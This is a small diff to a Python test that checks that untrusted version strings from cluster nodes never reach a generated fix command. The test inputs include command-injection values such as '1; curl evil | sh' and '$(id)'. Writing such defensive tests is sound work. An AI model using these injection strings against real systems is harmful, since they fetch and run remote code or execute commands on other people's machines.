@@ -103,5 +103,5 @@ def test_a_host_whose_version_is_not_that_of_the_nodes_is_warned() -> None:
 @pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
 def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
     nodes = {"alice": {GYM: "0.1.25"}, "mallory": {GYM: said, "swarm": said}}
-    for finding in (logs.judge_package(GYM, nodes, "0.1.30"), logs.judge_ours(nodes)):
+    for finding in (logs.judge_package(GYM, nodes, "0.1.30"), logs.judge_package("swarm", nodes, "")):
         assert said not in finding.fix
